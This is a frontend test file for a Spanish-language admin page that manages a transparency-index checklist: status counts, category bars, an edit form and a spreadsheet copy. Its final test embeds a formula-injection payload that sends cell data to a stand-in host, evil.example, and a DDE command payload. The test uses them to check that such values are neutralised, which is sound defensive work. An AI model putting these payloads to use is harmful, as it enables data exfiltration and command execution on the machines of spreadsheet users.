/**
 * /admin/indice-transparencia: the picture, the items needing attention first, the edit form, the
 * spreadsheet copy.
 */
import { screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { ITA_CATEGORIES, ITA_CSV_COLUMNS, ITA_ITEMS, type ItaItemView } from '@model';
import { ADMIN_PATHS } from '@/config/paths';
import { fakeServerForEachTest, type FakeServer } from '../test/fake-network';
import { renderAdmin } from '../test/render-admin';
import { ITA_TEXT } from './ita-text';

let server: FakeServer;
fakeServerForEachTest((s) => (server = s));

/** The checklist as GET /api/ita answers it: the matrix, with a few states changed by `over`. */
function checklist(over: Record<string, Partial<ItaItemView>> = {}) {
  const items: ItaItemView[] = ITA_ITEMS.map((item) => {
    const category = ITA_CATEGORIES.find((c) => c.id === item.category)!;
    return {
      id: item.id,
      number: item.number,
      annex: category.annex,
      category: category.id,
      categoryName: category.name,
      name: item.name,
      norm: item.norm,
      inferred: !!item.inferred,
      subitem: item.subitem ?? null,
      automaticEvidence: [...item.evidence],
      evidence: [],
      status: item.evidence.length ? 'cumple' : 'pendiente',
      reason: '',
      responsible: '',
      reviewPeriodDays: item.reviewDays,
      updatedAt: null,
      updatedBy: null,
      stale: false,
      checkProblem: null,
      checkedAt: null,
      externalToCheck: [],
      ...over[item.id],
    };
  });
  const counts = { cumple: 0, no_cumple: 0, no_aplica: 0, pendiente: 0 };
  for (const i of items) counts[i.status] += 1;
  return { now: '2026-11-29T12:00:00.000Z', counts, items };
}

const BROKEN = 'La página /politica-de-privacidad no muestra nada publicado.';

describe('Índice de transparencia', () => {
  it('draws the count per status and a bar per category, and lists what needs attention first', async () => {
    const list = checklist({
      'sitio-2-3-2': { status: 'no_cumple', checkProblem: BROKEN },
      'transparencia-1-11': { stale: true, updatedAt: '2026-09-01T00:00:00.000Z' },
    });
    server.on('GET /api/ita', { status: 200, body: list });
    await renderAdmin(ADMIN_PATHS.ita);
    expect(await screen.findByRole('heading', { level: 1, name: ITA_TEXT.title })).toBeTruthy();
    await screen.findByRole('heading', { level: 2, name: ITA_TEXT.summary });
    const tiles = screen.getAllByRole('listitem').filter((li) => li.className.includes('ita-tile'));
    expect(tiles.map((t) => t.textContent)).toEqual([
      `${list.counts.cumple} Cumple`,
      `${list.counts.no_cumple} No cumple`,
      `${list.counts.no_aplica} No aplica`,
      `${list.counts.pendiente} Pendiente`,
      '1 Por revisar',
    ]);
    // A picture with its figures in words: one image per category.
    const bars = screen.getAllByRole('img');
    expect(bars).toHaveLength(ITA_CATEGORIES.length);
    const site = list.items.filter((i) => i.category === 'sitio');
    const done = site.filter((i) => i.status === 'cumple').length;
    expect(bars[1]!.getAttribute('aria-label')).toBe(
      `Menú destacado, identidad y políticas del sitio: ${done} de ${site.length} resueltos (${done} cumplen, 0 no aplican, 1 no cumplen, ${site.length - done - 1} pendientes).`,
    );
    // Not met first, then stale, then pending.
    const attention = screen.getByRole('region', { name: /Revise primero/ });
    const summaries = within(attention)
      .getAllByRole('group')
      .map((d) => d.querySelector('summary')!.textContent);
    expect(summaries[0]).toMatch(/^2\.3\.2 Política de privacidad.*No cumple$/);
    // One state per item: a stale "Cumple" says "Cumple · revisar", never "Cumple" beside "Vencido".
    expect(summaries[1]).toMatch(/^1\.11 Calendario.*Cumple · revisar$/);
    expect(summaries.join()).not.toContain('Vencido');
    expect(summaries.slice(2).every((s) => /Pendiente$/.test(s!))).toBe(true);
    // The check's reason, once the item is opened.
    const { events } = { events: (await import('@testing-library/user-event')).default.setup() };
    await events.click(within(attention).getAllByRole('group')[0]!.querySelector('summary')!);
    expect(await within(attention).findByText(BROKEN)).toBeTruthy();
  });

  it("says an item is pending because its page still shows the Secretaría's «Texto de ejemplo»", async () => {
    server.on('GET /api/ita', {
      status: 200,
      body: checklist({ 'sitio-2-3-2': { status: 'pendiente', sampleText: true } }),
    });
    await renderAdmin(ADMIN_PATHS.ita);
    const item = (await screen.findAllByRole('group')).find((d) =>
      /^2\.3\.2 Política de privacidad/.test(d.querySelector('summary')!.textContent ?? ''),
    )!;
    const events = (await import('@testing-library/user-event')).default.setup();
    await events.click(item.querySelector('summary')!);
    expect(await within(item).findByText(ITA_TEXT.sampleText)).toBeTruthy();
  });

  it('refuses "no aplica" without its reason before sending, then saves the item with it', async () => {
    server.on('GET /api/ita', { status: 200, body: checklist() });
    server.on('PUT /api/ita/transparencia-10-1', (req) => ({
      status: 200,
      body: { ...checklist().items.find((i) => i.id === 'transparencia-10-1')!, ...(req.body as object) },
    }));
    const { events } = await renderAdmin(ADMIN_PATHS.ita);
    const summary = (await screen.findByText('Procesos de recaudo de rentas locales')).closest('summary')!;
    await events.click(summary);
    const item = summary.closest('details')!;
    await events.selectOptions(within(item).getByLabelText('Estado'), 'no_aplica');
    await events.click(within(item).getByRole('button', { name: ITA_TEXT.save }));
    expect((await within(item).findByRole('alert')).textContent).toMatch(/Razón por la que no aplica/);
    expect(server.requests('PUT /api/ita/transparencia-10-1')).toHaveLength(0);

    await events.type(within(item).getByLabelText('Razón por la que no aplica'), 'No recauda rentas.');
    await events.type(within(item).getByLabelText('Responsable'), 'Rectoría');
    await events.click(within(item).getByRole('button', { name: ITA_TEXT.save }));
    // Shown in place from the answer, the list not read again: the badge and the counts follow.
    expect((await within(item).findByRole('status')).textContent).toBe(ITA_TEXT.saved('10.1'));
    expect(await within(item.querySelector('summary')!).findByText('No aplica')).toBeTruthy();
    expect(server.requests('GET /api/ita')).toHaveLength(1);
    const [sent] = server.requests('PUT /api/ita/transparencia-10-1');
    expect(sent!.body).toEqual({
      status: 'no_aplica',
      evidence: [],
      reason: 'No recauda rentas.',
      responsible: 'Rectoría',
      reviewPeriodDays: 365,
    });
    expect(sent!.headers.authorization).toMatch(/^Bearer /);
  });

  it('copies every item for a spreadsheet, in the matrix column order, tab-separated', async () => {
    server.on('GET /api/ita', { status: 200, body: checklist() });
    // user-event puts a clipboard of its own on navigator: what the button wrote is read back from it.
    const { events } = await renderAdmin(ADMIN_PATHS.ita);
    await events.click(await screen.findByRole('button', { name: ITA_TEXT.copy }));
    expect((await screen.findByRole('status')).textContent).toBe(ITA_TEXT.copied);
    const lines = (await navigator.clipboard.readText()).split('\n');
    expect(lines[0]).toBe(ITA_CSV_COLUMNS.join('\t'));
    expect(lines).toHaveLength(ITA_ITEMS.length + 1);
    expect(lines.find((l) => l.split('\t')[2] === '1.10')).toContain(`${window.location.origin}/pqrsd`);
  });

  it('copies a stored text that a spreadsheet would run as a formula as inert text (model/csv.ts)', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    server.on('GET /api/ita', {
      status: 200,
      body: checklist({
        'transparencia-1-10': { responsible: hyperlink },
        'transparencia-1-11': { responsible: dde },
      }),
    });
    const { events } = await renderAdmin(ADMIN_PATHS.ita);
    await events.click(await screen.findByRole('button', { name: ITA_TEXT.copy }));
    await screen.findByRole('status');
    const rows = (await navigator.clipboard.readText()).split('\n').map((l) => l.split('\t'));
    const column = ITA_CSV_COLUMNS.indexOf('Responsable');
    expect(rows.find((r) => r[2] === '1.10')![column]).toBe(`'${hyperlink}`);
    expect(rows.find((r) => r[2] === '1.11')![column]).toBe(`'${dde}`);
  });
});
